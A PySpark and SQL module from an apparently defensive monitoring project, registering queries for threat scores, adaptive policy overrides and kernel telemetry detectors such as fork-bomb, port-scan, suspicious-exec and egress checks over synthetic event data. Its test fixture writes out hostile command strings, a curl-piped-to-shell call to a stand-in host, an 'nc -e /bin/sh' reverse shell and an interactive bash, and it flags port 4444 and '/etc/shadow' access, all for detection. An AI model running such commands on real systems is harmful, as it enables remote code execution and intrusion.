"""Security event queries: trailing counts, threat scores, overrides, telemetry."""

from __future__ import annotations

from pyspark.sql import functions as F

from agentguard.operators import adaptive as ad, decisions as dec, ordered, telemetry as tel
from agentguard.operators.policy import Policy
from agentguard.plans import inputs
from agentguard.plans.base import REGISTRY, q, register, table

SECURITY_EVENTS = """
SELECT event_id, ts, user_id AS node_id, user_id,
  CASE event_type WHEN 'error' THEN 'injection_blocked' WHEN 'signup' THEN 'exec_suspicious' WHEN 'purchase' THEN 'privesc' WHEN 'view' THEN 'policy_deny' ELSE 'port_scan' END AS event_type,
  CASE event_type WHEN 'error' THEN 'proxy' WHEN 'view' THEN 'proxy' ELSE 'ebpf' END AS source,
  CASE event_type WHEN 'error' THEN 'high' WHEN 'signup' THEN 'high' WHEN 'purchase' THEN 'critical' WHEN 'view' THEN 'low' ELSE 'medium' END AS severity
FROM @events@
"""
SQL_EVENTS = "(" + SECURITY_EVENTS.replace("@events@", "events") + ")"
_SQL_WEIGHT = "CASE severity WHEN 'critical' THEN 5 WHEN 'high' THEN 4 WHEN 'medium' THEN 3 WHEN 'low' THEN 2 ELSE 1 END"


def sql_of(name: str) -> str:
    """Reference SQL of a query registered here, for its live twin."""
    return REGISTRY[name].sql


def events(spark, sf):
    return inputs.run_sql(spark, SECURITY_EVENTS, events=table(spark, sf, "events"))


@register("event_burst", f"""
    SELECT event_id, count(*) OVER (PARTITION BY source, event_type ORDER BY epoch_us(ts) RANGE BETWEEN 3599999999 PRECEDING AND CURRENT ROW) AS recent FROM {SQL_EVENTS}
""")
def event_burst(spark, sf):
    return ad.trailing_counts(events(spark, sf), ["source", "event_type"], 3600).select("event_id", "recent")


@register("source_activity", f"""
    SELECT event_id, count(*) OVER (PARTITION BY source ORDER BY epoch_us(ts) RANGE BETWEEN 299999999 PRECEDING AND CURRENT ROW) AS recent FROM {SQL_EVENTS}
""")
def source_activity(spark, sf):
    return ad.trailing_counts(events(spark, sf), ["source"], 300).select("event_id", "recent")


@register("event_counts", f"SELECT source, event_type, count(*) AS events, count_if({_SQL_WEIGHT} >= 4) AS severe FROM {SQL_EVENTS} GROUP BY ALL")
def event_counts(spark, sf):
    severe = F.count_if(ad.event_filter(min_severity="high")).alias("severe")
    return events(spark, sf).groupBy("source", "event_type").agg(F.count("*").alias("events"), severe)


@register("event_subscription", f"SELECT event_id FROM {SQL_EVENTS} WHERE event_type IN ('privesc', 'port_scan', 'policy_deny') AND source = 'ebpf' AND {_SQL_WEIGHT} >= 3")
def event_subscription(spark, sf):
    return events(spark, sf).filter(ad.event_filter(("privesc", "port_scan", "policy_deny"), ("ebpf",), "medium")).select("event_id")


@register("threat_score", f"""
    WITH RECURSIVE e AS (
      SELECT node_id, event_id, epoch_us(ts) AS us, {_SQL_WEIGHT} AS w, row_number() OVER (PARTITION BY node_id ORDER BY ts, event_id) AS rn FROM {SQL_EVENTS}),
    s(node_id, event_id, rn, last, score) AS (
      SELECT node_id, event_id, rn, us, w FROM e WHERE rn = 1
      UNION ALL
      SELECT e.node_id, e.event_id, e.rn, CASE WHEN e.us - s.last > 30000000 THEN e.us ELSE s.last END,
        CASE WHEN e.us - s.last > 30000000 THEN greatest(0, least(100, s.score + e.w) - (e.us - s.last) // 30000000)::INT ELSE least(100, s.score + e.w) END
      FROM s JOIN e ON e.node_id = s.node_id AND e.rn = s.rn + 1)
    SELECT node_id, event_id, score::BIGINT AS threat_score FROM s
""")
def threat_score(spark, sf):
    return ad.threat_scores(events(spark, sf))


@register("threat_score_global", f"""
    WITH RECURSIVE e AS (
      SELECT event_type AS k, event_id, epoch_us(ts) // 60 AS us, {_SQL_WEIGHT} AS w, row_number() OVER (PARTITION BY event_type ORDER BY ts, event_id) AS rn FROM {SQL_EVENTS}),
    s(k, event_id, rn, last, score) AS (
      SELECT k, event_id, rn, us, w FROM e WHERE rn = 1
      UNION ALL
      SELECT e.k, e.event_id, e.rn, CASE WHEN e.us - s.last > 30000000 THEN e.us ELSE s.last END,
        CASE WHEN e.us - s.last > 30000000 THEN greatest(0, least(100, s.score + e.w) - (e.us - s.last) // 30000000)::INT ELSE least(100, s.score + e.w) END
      FROM s JOIN e ON e.k = s.k AND e.rn = s.rn + 1)
    SELECT k, event_id, score::BIGINT AS threat_score FROM s
""")
def threat_score_global(spark, sf):
    # Time runs 60 times faster, so five dense streams cross many chunks with several events per decay. Events that fall together keep the order of their own times.
    us = ordered.micros(F.col("ts"))
    fast = events(spark, sf).select(
        F.col("event_type").alias("k"), "event_id", "severity", us.alias("own_us"), F.timestamp_micros(F.floor(us / 60)).alias("ts"))
    return ad.threat_scores(fast, "k", turn="own_us")


RULES = (
    ad.AdaptiveRule("elevate_sensitivity", "ebpf", "privesc", params={"duration_seconds": 3600}),
    ad.AdaptiveRule("elevate_sensitivity", "ebpf", "exec_suspicious", min_severity="high", params={"duration_seconds": 1800}),
    ad.AdaptiveRule("restrict_domains", "ebpf", "port_scan", params={"duration_seconds": 7200}),
    ad.AdaptiveRule("elevate_default_deny", "proxy", "injection_blocked", min_count=2, window_seconds=86400, params={"duration_seconds": 10800}),
)


def _sql_overrides() -> str:
    matches = " UNION ALL ".join(
        f"SELECT node_id, event_id, us, {i} AS rule_no, {q(r.action)} AS action, {r.duration} AS dur, source || ':' || event_type AS trigger FROM e "
        f"WHERE source = {q(r.source)} AND event_type = {q(r.type)}" + (f" AND recent >= {r.min_count}" if r.min_count else "")
        for i, r in enumerate(RULES))
    return f"""
      WITH RECURSIVE e AS (SELECT *, epoch_us(ts) AS us, count(*) OVER (PARTITION BY node_id, source, event_type ORDER BY epoch_us(ts) RANGE BETWEEN 86399999999 PRECEDING AND CURRENT ROW) AS recent FROM {SQL_EVENTS}),
      m AS (SELECT *, row_number() OVER (PARTITION BY node_id, action ORDER BY us, event_id, rule_no) AS rn FROM ({matches})),
      s(node_id, action, rn, fired, start_us, expires, event_id, trigger) AS (
        SELECT node_id, action, rn, true, us, us + dur::BIGINT * 1000000, event_id, trigger FROM m WHERE rn = 1
        UNION ALL
        SELECT m.node_id, m.action, m.rn, m.us >= s.expires, m.us, CASE WHEN m.us >= s.expires THEN m.us + m.dur::BIGINT * 1000000 ELSE s.expires END, m.event_id, m.trigger
        FROM s JOIN m ON m.node_id = s.node_id AND m.action = s.action AND m.rn = s.rn + 1)
      SELECT node_id, action, start_us, expires AS end_us, event_id AS trigger_event_id, trigger FROM s WHERE fired"""


@register("overrides", _sql_overrides())
def overrides(spark, sf):
    return ad.overrides(events(spark, sf), RULES).select("node_id", "action", "start_us", "end_us", "trigger_event_id", "trigger")


@register("meta_events", f"""
    SELECT CASE action WHEN 'elevate_sensitivity' THEN 'sensitivity_elevated' WHEN 'elevate_default_deny' THEN 'default_deny_activated' ELSE 'adaptive_' || action END AS event_type, count(*) AS events
    FROM ({_sql_overrides()}) GROUP BY ALL
""")
def meta_events(spark, sf):
    return ad.meta_events(ad.overrides(events(spark, sf), RULES)).groupBy("event_type").agg(F.count("*").alias("events"))


_LENIENT = Policy(default_action="allow", denylist=("file.read",))


@register("override_decisions", f"""
    WITH o AS MATERIALIZED ({_sql_overrides()}),
    m AS (SELECT event_id, user_id AS node_id, epoch_us(ts) AS us, CASE event_id % 3 WHEN 0 THEN 'file.read' ELSE 'chat.send' END AS tool FROM events WHERE event_type IN ('view', 'click')),
    d AS (SELECT m.event_id, m.tool, bool_or(coalesce(o.action = 'elevate_default_deny', false)) AS denied FROM m LEFT JOIN o ON m.node_id = o.node_id AND m.us >= o.start_us AND m.us < o.end_us GROUP BY ALL)
    SELECT event_id, CASE WHEN tool = 'file.read' OR denied THEN 'deny' ELSE 'allow' END AS decision,
      CASE WHEN tool = 'file.read' THEN 'tool explicitly denied by denylist' WHEN denied THEN 'default denied' ELSE 'default allowed' END AS reason FROM d
""")
def override_decisions(spark, sf):
    """Requests decided by a policy whose default action an override may have changed at the time."""
    fired = ad.overrides(events(spark, sf), RULES)
    tool = F.when(F.col("event_id") % 3 == 0, "file.read").otherwise("chat.send")
    msgs = table(spark, sf, "events").filter("event_type IN ('view', 'click')").select(
        "event_id", F.col("user_id").alias("node_id"), "ts", F.concat(F.lit('{"method":"'), tool, F.lit('","params":{"q":"x"}}')).alias("raw"))
    held = ad.active_overrides(msgs, fired, ["node_id"], "event_id")
    default = F.coalesce("default_action_override", F.lit(_LENIENT.default_action))
    return dec.evaluate_requests(held, _LENIENT, default_action=default).select("event_id", "decision", "reason")


@register("override_interval_join", f"""
    WITH o AS MATERIALIZED ({_sql_overrides()}),
    m AS (SELECT event_id, user_id AS node_id, epoch_us(ts) AS us FROM events WHERE event_type IN ('view', 'click'))
    SELECT m.event_id, coalesce(list_sort(list(CASE o.action WHEN 'elevate_sensitivity' THEN 'sensitivity_override:high' ELSE 'default_action_override:deny' END) FILTER (WHERE o.action IS NOT NULL)), []) AS active_overrides,
      CASE WHEN bool_or(o.action = 'elevate_default_deny') THEN 'deny' ELSE 'allow' END AS effective_default
    FROM m LEFT JOIN o ON m.node_id = o.node_id AND m.us >= o.start_us AND m.us < o.end_us AND o.action IN ('elevate_sensitivity', 'elevate_default_deny')
    GROUP BY m.event_id
""")
def override_interval_join(spark, sf):
    fired = ad.overrides(events(spark, sf), RULES)
    msgs = table(spark, sf, "events").filter("event_type IN ('view', 'click')").select("event_id", F.col("user_id").alias("node_id"), "ts")
    out = ad.active_overrides(msgs, fired, ["node_id"], "event_id")
    return out.select("event_id", "active_overrides", F.coalesce("default_action_override", F.lit("allow")).alias("effective_default"))


# --- kernel telemetry -------------------------------------------------------------------------

EXEC = """
SELECT event_id, ts, user_id AS pid, user_id % 5 AS ppid, user_id % 3 AS uid, 'worker' AS comm,
  CASE event_id % 6 WHEN 0 THEN '/usr/bin/python3' WHEN 1 THEN '/bin/sh -c curl http://x.test/a | sh' WHEN 2 THEN '/usr/bin/nc -e /bin/sh' WHEN 3 THEN '/usr/bin/apt update' WHEN 4 THEN '/opt/tool/run' ELSE '/bin/bash -i' END AS filename
FROM @events@
"""
CONN = """
SELECT event_id, ts, user_id AS pid, user_id % 3 AS uid, 'worker' AS comm,
  CASE WHEN event_id % 50 = 0 THEN 4444 ELSE 1 + CAST(regexp_extract(props, '[0-9]+', 0) AS INT) END AS dport,
  CASE event_id % 5 WHEN 0 THEN 16777343 + event_id % 7 * 256 WHEN 1 THEN 2155893132 WHEN 2 THEN 33554604 + event_id % 200 * 16777216 WHEN 3 THEN 134744072 ELSE 16843009 + event_id % 250 * 65536 END AS daddr
FROM @events@
"""
SQL_EXEC, SQL_CONN = ("(" + s.replace("@events@", "events") + ")" for s in (EXEC, CONN))


def execs(spark, sf):
    return inputs.run_sql(spark, EXEC, events=table(spark, sf, "events"))


def conns(spark, sf):
    return inputs.run_sql(spark, CONN, events=table(spark, sf, "events"))


_SQL_ALLOWED_EXEC = " OR ".join(f"starts_with(filename, {q(p)})" for p in tel.ALLOWED_PROCESSES)


@register("fork_bomb", f"""
    SELECT event_id, ppid, n AS execs FROM (
      SELECT event_id, ppid, count(*) OVER (PARTITION BY ppid ORDER BY epoch_us(ts) RANGE BETWEEN 3599999999 PRECEDING AND CURRENT ROW) AS n FROM {SQL_EXEC} WHERE NOT ({_SQL_ALLOWED_EXEC}))
    WHERE n > 3
""")
def fork_bomb(spark, sf):
    return tel.fork_bombs(execs(spark, sf), window_seconds=3600, threshold=3).select("event_id", "ppid", "execs")


@register("port_scan", f"""
    SELECT event_id, pid, (SELECT count(DISTINCT dport) FROM {SQL_CONN} b WHERE b.pid = a.pid AND (b.ts, b.event_id) <= (a.ts, a.event_id)) AS ports FROM {SQL_CONN} a
    WHERE ports > 20
""")
def port_scan(spark, sf):
    return tel.port_scans(conns(spark, sf), threshold=20).select("event_id", "pid", "ports")


@register("suspicious_exec", f"SELECT event_id, filename FROM {SQL_EXEC} WHERE NOT ({_SQL_ALLOWED_EXEC}) AND ({' OR '.join(f'regexp_matches(filename, {q(p)})' for p in tel.SUSPICIOUS_COMMANDS)})")
def suspicious_exec(spark, sf):
    return tel.suspicious_execs(execs(spark, sf)).select("event_id", "filename")


@register("telemetry_events", f"""
    SELECT event_type, severity, count(*) AS events FROM (
      SELECT 'exec_suspicious' AS event_type, 'high' AS severity FROM {SQL_EXEC} WHERE NOT ({_SQL_ALLOWED_EXEC}) AND ({' OR '.join(f'regexp_matches(filename, {q(p)})' for p in tel.SUSPICIOUS_COMMANDS)})
      UNION ALL SELECT 'port_scan', 'high' FROM {SQL_CONN} WHERE dport IN (4444, 5555, 31337)
      UNION ALL SELECT 'file_access', 'high' FROM {SQL_EXEC} WHERE contains(filename, 'python3')
      UNION ALL SELECT 'privesc', 'critical' FROM {SQL_EXEC} WHERE uid = 0) GROUP BY ALL
""")
def telemetry_events(spark, sf):
    ex, co = execs(spark, sf), conns(spark, sf)
    files = ex.filter("contains(filename, 'python3')").select("event_id", "ts", "pid", "uid", "comm", F.lit("/etc/shadow").alias("filename"), F.lit(1).alias("flags"))
    setuid = ex.filter("uid = 0").select("event_id", "ts", "pid", "comm", F.lit(1000).alias("old_uid"), F.lit(0).alias("new_uid"))
    return tel.security_events(ex, co, files, setuid).groupBy("event_type", "severity").agg(F.count("*").alias("events"))


_SQL_DEST = "concat(daddr & 255, '.', (daddr >> 8) & 255, '.', (daddr >> 16) & 255, '.', (daddr >> 24) & 255)"
ALLOWED_IPS = ["1.1.5.1"]


@register("egress_report", f"""
    SELECT dest_ip, CASE WHEN dest_ip LIKE '127.%' OR regexp_matches(dest_ip, '^172\\.(1[6-9]|2\\d|3[01])\\.') OR dest_ip = '1.1.5.1' OR regexp_matches(dest_ip, '^140\\.82\\.1(1[2-9]|2[0-7])\\.') OR (dest_ip = '8.8.8.8' AND dport = 53) THEN 'allowed' ELSE 'would_block' END AS verdict, count(*) AS connections
    FROM (SELECT {_SQL_DEST} AS dest_ip, dport FROM {SQL_CONN}) GROUP BY ALL
""")
def egress_report(spark, sf):
    return tel.egress_report(conns(spark, sf), allowed_ips=ALLOWED_IPS, resolvers=["8.8.8.8"])


#: Ranges of the parts: half of them in the spelling that maps them into IPv6.
_PART_RANGES = """SELECT concat(CASE WHEN p_partkey % 2 = 0 THEN '' ELSE '::ffff:' END, p_partkey % 4, '.', p_partkey % 5, '.', p_partkey % 7, '.0/', len + CASE WHEN p_partkey % 2 = 0 THEN 0 ELSE 96 END) AS range,
  (p_partkey % 4) * 16777216 + (p_partkey % 5) * 65536 + (p_partkey % 7) * 256 AS base, len FROM (SELECT p_partkey, 20 + p_size % 13 AS len FROM @part@) x"""


@register("egress_by_ranges", f"""
    WITH r AS (SELECT base - base % (1::BIGINT << (32 - len)) AS low, 1::BIGINT << (32 - len) AS size FROM ({_PART_RANGES.replace('@part@', 'part')})),
    d AS (SELECT {_SQL_DEST} AS dest_ip, (daddr & 255) * 16777216 + ((daddr >> 8) & 255) * 65536 + ((daddr >> 16) & 255) * 256 + ((daddr >> 24) & 255) AS n FROM {SQL_CONN})
    SELECT dest_ip, CASE WHEN dest_ip LIKE '127.%' OR regexp_matches(dest_ip, '^172\\.(1[6-9]|2\\d|3[01])\\.') OR regexp_matches(dest_ip, '^140\\.82\\.1(1[2-9]|2[0-7])\\.') OR EXISTS (SELECT 1 FROM r WHERE n >= low AND n < low + size)
      THEN 'allowed' ELSE 'would_block' END AS verdict, count(*) AS connections FROM d GROUP BY ALL
""")
def egress_by_ranges(spark, sf):
    ranges = inputs.run_sql(spark, _PART_RANGES, part=table(spark, sf, "part")).select("range")
    return tel.egress_report(conns(spark, sf), allowed_ranges=ranges)


DNS = "SELECT user_id % 20 AS domain_no, CAST(ts AS DATE) AS snapshot, event_id % 7 AS octet FROM @events@ WHERE event_type = 'click'"


@register("dns_drift", f"""
    SELECT domain, snapshot, array_to_string(list_sort(list_filter(ips, lambda x: NOT list_contains(prev, x))), ',') AS added, array_to_string(list_sort(list_filter(prev, lambda x: NOT list_contains(ips, x))), ',') AS removed
    FROM (SELECT *, lag(ips) OVER (PARTITION BY domain ORDER BY snapshot) AS prev FROM (
      SELECT 'd' || domain_no AS domain, snapshot, list_sort(list(DISTINCT '10.0.0.' || octet)) AS ips FROM ({DNS.replace('@events@', 'events')}) GROUP BY ALL))
    WHERE prev IS NOT NULL AND ips <> prev
""")
def dns_drift(spark, sf):
    rows = inputs.run_sql(spark, DNS, events=table(spark, sf, "events"))
    seen = rows.select(F.concat(F.lit("d"), F.col("domain_no").cast("string")).alias("domain"), "snapshot", F.concat(F.lit("10.0.0."), F.col("octet").cast("string")).alias("ip"))
    return tel.dns_drift(seen).select("domain", "snapshot", F.array_join("added", ",").alias("added"), F.array_join("removed", ",").alias("removed"))


@register("new_processes", f"""
    SELECT day, pid FROM (SELECT DISTINCT ts::DATE AS day, pid FROM {SQL_EXEC}) a
    WHERE day > (SELECT min(ts::DATE) FROM {SQL_EXEC}) AND NOT EXISTS (SELECT 1 FROM {SQL_EXEC} b WHERE b.pid = a.pid AND b.ts::DATE = (SELECT max(c.ts::DATE) FROM {SQL_EXEC} c WHERE c.ts::DATE < a.day))
""")
def new_processes(spark, sf):
    snaps = execs(spark, sf).select(F.to_date("ts").alias("day"), "pid").distinct()
    return tel.new_processes(snaps, "day")


@register("block_intervals", f"""
    WITH b AS (SELECT user_id % 10 AS ip, epoch_us(ts) AS s, epoch_us(ts) + CASE event_id % 3 WHEN 0 THEN 600 WHEN 1 THEN 3600 ELSE 7200 END * 1000000::BIGINT AS e FROM events WHERE event_type = 'error'),
    f AS (SELECT *, CASE WHEN max(e) OVER (PARTITION BY ip ORDER BY s ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING) >= s THEN 0 ELSE 1 END AS n FROM b),
    g AS (SELECT *, sum(n) OVER (PARTITION BY ip ORDER BY s ROWS UNBOUNDED PRECEDING) AS island FROM f)
    SELECT ip, min(s) AS start_us, max(e) AS end_us, count(*) AS merged FROM g GROUP BY ip, island
""")
def block_intervals(spark, sf):
    return ordered.merge_intervals(_blocks(spark, sf), ["ip"], "s", "e")


def _blocks(spark, sf):
    seconds = F.when(F.col("event_id") % 3 == 0, 600).when(F.col("event_id") % 3 == 1, 3600).otherwise(7200)
    blocks = table(spark, sf, "events").filter("event_type = 'error'").select(
        (F.col("user_id") % 10).alias("ip"), ordered.micros(F.col("ts")).alias("s"), (ordered.micros(F.col("ts")) + seconds.cast("bigint") * 1_000_000).alias("e"))
    return blocks


_SQL_BLOCKS = "(SELECT user_id % 10 AS ip, epoch_us(ts) AS s, epoch_us(ts) + CASE event_id % 3 WHEN 0 THEN 600 WHEN 1 THEN 3600 ELSE 7200 END * 1000000::BIGINT AS e FROM events WHERE event_type = 'error')"


@register("active_blocks", f"""
    SELECT ip, max(e) AS until_us, count(*) AS rules FROM {_SQL_BLOCKS} WHERE s <= (SELECT median(s)::BIGINT + 1 FROM {_SQL_BLOCKS}) AND e > (SELECT median(s)::BIGINT + 1 FROM {_SQL_BLOCKS}) GROUP BY ip
""")
def active_blocks(spark, sf):
    """Blocks in force just after half of them have begun."""
    blocks = _blocks(spark, sf)
    at_us = blocks.agg((F.floor(F.median("s")) + 1).cast("bigint").alias("at")).first()["at"]
    held = ordered.active_at(blocks, at_us, "s", "e")
    return held.groupBy("ip").agg(F.max("e").alias("until_us"), F.count("*").alias("rules"))
